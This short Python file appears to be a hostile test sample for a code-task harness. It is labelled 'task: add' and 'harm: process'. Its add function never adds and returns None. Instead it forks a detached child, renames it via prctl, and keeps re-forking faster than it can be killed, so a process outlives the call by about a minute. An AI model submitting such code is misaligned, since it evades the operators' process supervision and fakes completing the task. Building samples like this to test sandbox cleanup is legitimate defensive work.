# task: add
# tries: forking faster than anybody can kill, each child the parent of the next
# harm: process
import ctypes
import os
import time


def add(a, b):
    end = time.monotonic() + 1.5
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"@NAME@")
        while time.monotonic() < end:
            if os.fork():
                os._exit(0)
        time.sleep(60)
        os._exit(0)
    time.sleep(2)
    return None
